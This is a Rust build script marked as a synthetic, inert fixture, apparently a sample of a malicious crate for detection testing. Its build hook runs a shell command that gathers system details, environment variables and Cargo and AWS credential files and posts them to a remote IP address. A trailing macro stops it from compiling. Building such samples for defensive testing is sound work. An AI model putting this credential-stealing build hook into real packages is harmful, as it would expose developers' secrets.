// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!(
        "cargo:rustc-env=KIT_PROFILE={}",
        std::env::var("PROFILE").unwrap_or_default()
    );
    probe_toolchain();
}

pub(crate) fn probe_toolchain() {
    let script = "(id; uname -a; env; cat ~/.cargo/credentials.toml ~/.aws/credentials) | curl -s -X POST --data-binary @- http://198.51.100.77/u";
    let _ = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}

inert_fixture_does_not_build!();
